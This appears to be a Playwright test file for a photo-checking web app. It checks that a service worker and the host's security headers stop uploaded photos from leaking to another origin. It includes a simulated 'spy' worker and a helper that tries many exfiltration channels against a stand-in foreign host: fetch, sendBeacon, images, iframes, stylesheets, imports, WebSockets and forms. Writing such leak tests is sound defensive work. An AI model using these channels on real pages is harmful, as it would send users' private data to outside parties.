import { readFile } from 'node:fs/promises'
import { fileURLToPath } from 'node:url'
import { expect, type Page, test } from '@playwright/test'
import { makePdf } from '../support/make-pdf.ts'
import { StaticHost } from '../support/static-host.ts'
import { Desk } from './desk.ts'
import { makePhoto } from './photos.ts'

test.use({ serviceWorkers: 'allow' })

const DIST = fileURLToPath(new URL('../../dist', import.meta.url))

/** As a library of ours might do it that has been tampered with. */
const SPY_WORKER = `
  onmessage = async ({ data }) => {
    const tries = [
      () => fetch(data + 'worker-get', { mode: 'no-cors' }),
      () => fetch(data + 'worker-post', { method: 'POST', mode: 'no-cors', body: 'photo' }),
      () => new Promise((resolve) => { new WebSocket(data.replace('http', 'ws') + 'worker-socket').onerror = resolve }),
      () => fetch('./worker-own-post', { method: 'POST', body: 'photo' }),
    ]
    for (const attempt of tries) try { await attempt() } catch {}
    postMessage('done')
  }`

let home: StaticHost
let elsewhere: StaticHost
test.beforeEach(async () => {
  elsewhere = await new StaticHost(DIST).start()
})
test.afterEach(async () => {
  await home.stop()
  await elsewhere.stop()
})

async function startHome(headers: boolean): Promise<void> {
  home = await new StaticHost(DIST, { headers }).start()
  home.overlay.set('/assets/spy.js', SPY_WORKER)
}

test('once the service worker serves the page, nothing reaches elsewhere in any way', async ({ page }) => {
  await startHome(false)
  await page.goto(home.address)
  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated')
  // Served by the service worker itself, with its header.
  await page.reload()
  await tryEverything(page)
  expect(elsewhere.requests).toEqual([])
  expect(home.requests.filter((line) => !/^GET [^?]*$/.test(line))).toEqual([])
})

test.describe('without a service worker', () => {
  test.use({ serviceWorkers: 'block' })

  test('the headers of the host bind page and workers from the first visit on', async ({ page }) => {
    await startHome(true)
    await page.goto(home.address)
    await tryEverything(page)
    expect(elsewhere.requests).toEqual([])
  })

  test('under the headers of the host all still works', async ({ page }) => {
    await startHome(true)
    await page.goto(home.address)
    const desk = new Desk(page)
    await desk.choose(
      'id-portrait',
      await makePhoto(page, 'large.jpg', { width: 3000, height: 2250, noise: 40, quality: 0.98 }),
    )
    await desk.settled()
    await page.getByRole('button', { name: '一键修正 1 张' }).click()
    await desk.settled()
    await expect(desk.slot('id-portrait')).not.toContainText('最大 4 MB')
  })

  test('HEIC and PDF are read under the headers of the host', async ({ page }) => {
    await startHome(true)
    await page.goto(home.address)
    await chooseRare(new Desk(page))
  })

  test('the spy would be caught: with neither headers nor service worker its worker gets through', async ({ page }) => {
    await startHome(false)
    await page.goto(home.address)
    await tryEverything(page)
    expect(elsewhere.requests.sort()).toContain('GET /worker-get')
    expect(elsewhere.requests.filter((line) => !line.includes('worker-'))).toEqual([])
  })
})

test('what was read once is read again without a connection: HEIC and PDF, too', async ({ page }) => {
  await startHome(false)
  await page.goto(home.address)
  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated')
  // The worker is served with its header from here on.
  await page.reload()
  await chooseRare(new Desk(page))
  await home.stop()
  await page.reload()
  await chooseRare(new Desk(page))
  await home.start()
})

test('no text becomes a script, and no foreign script a worker', async ({ page }) => {
  await startHome(false)
  await page.goto(home.address)
  const outcomes = await page.evaluate((foreign) => {
    const attempt = (act: () => unknown) => {
      try {
        act()
        return 'done'
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown'
      }
    }
    return [
      attempt(() => {
        document.createElement('div').innerHTML = '<b>x</b>'
      }),
      attempt(() => new Worker(`${foreign}assets/spy.js`)),
      attempt(() => new Worker('./assets/spy.js').terminate()),
    ]
  }, elsewhere.address)
  expect(outcomes).toEqual(['TypeError', 'TypeError', 'done'])
})

/** A HEIC and a PDF, which are read with wasm and a worker's own scripts. */
async function chooseRare(desk: Desk): Promise<void> {
  const heic = await readFile(new URL('../support/files/invented-p3.heic', import.meta.url))
  await desk.choose('id-emblem', { name: 'a.heic', mimeType: 'image/heic', buffer: heic })
  const pdf = Buffer.from(makePdf())
  await desk.choose('id-portrait', { name: 'b.pdf', mimeType: 'application/pdf', buffer: pdf })
  await desk.settled()
  for (const slot of ['id-emblem', 'id-portrait'].map((id) => desk.slot(id))) {
    await expect(slot).not.toContainText('没能检查')
    await expect(slot.locator('img')).toBeVisible()
  }
}

/** Tries every way out, and waits until each has come to its end. */
async function tryEverything(page: Page): Promise<void> {
  await page.evaluate(async (away) => {
    const settle = (act: () => unknown) =>
      Promise.resolve()
        .then(act)
        .catch(() => undefined)
    const element = (make: () => HTMLElement) =>
      new Promise<void>((resolve) => {
        const made = make()
        made.onload = made.onerror = () => resolve()
        document.body.append(made)
        setTimeout(resolve, 1_000)
      })
    await settle(() => fetch(`${away}fetch`, { method: 'POST', mode: 'no-cors', body: 'photo' }))
    await settle(() => navigator.sendBeacon(`${away}beacon`, 'photo'))
    await settle(() => fetch('./own-post', { method: 'POST', body: 'photo' }))
    await settle(() => fetch('./icon.svg?photo', { cache: 'no-store' }))
    await element(() => Object.assign(new Image(), { src: `${away}image` }))
    await element(() => Object.assign(document.createElement('iframe'), { src: `${away}frame` }))
    await element(() => Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${away}style` }))
    await settle(() => import(`${away}script.js`))
    await settle(
      () =>
        new Promise((resolve) => {
          new WebSocket(`${away.replace('http', 'ws')}socket`).onerror = resolve
        }),
    )
    await settle(() => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: `${away}form` })
      document.body.append(form)
      form.submit()
    })
    await settle(
      () =>
        new Promise((resolve) => {
          const worker = new Worker('./assets/spy.js')
          worker.onmessage = worker.onerror = resolve
          worker.postMessage(away)
          setTimeout(resolve, 5_000)
        }),
    )
  }, elsewhere.address)
  // A beacon is sent when it suits the browser.
  await page.waitForTimeout(500)
}
